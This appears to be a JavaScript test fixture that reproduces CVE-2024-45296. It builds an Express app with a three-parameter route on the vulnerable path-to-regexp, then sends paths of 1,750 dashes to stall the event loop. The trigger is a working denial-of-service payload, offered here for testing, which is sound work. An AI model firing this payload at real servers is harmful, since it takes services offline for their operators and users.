// Three parameters of one part of a path: the router's expression tries each way to part an address of nothing but dashes.
module.exports = {
  expects: "event_loop_stall",
  pkg: "path-to-regexp@0.1.7, express@4.18.2",
  issue: "expressjs/express#5784, expressjs/security-wg#27 (CVE-2024-45296)",
  ms: 8_000,
  start() {
    const app = require("express")();
    app.get("/health", (_request, response) => response.send("ok"));
    app.get("/flights/:from-:to-:day", (request, response) => response.json(request.params));
    return app;
  },
  async trigger({ req, sleep, stop }) {
    await req({ path: "/flights/oslo-rome-monday" });
    while (!stop.v) {
      req({ path: `/flights/${"-".repeat(1_750)}/x` });
      await sleep(3_500);
    }
  },
};
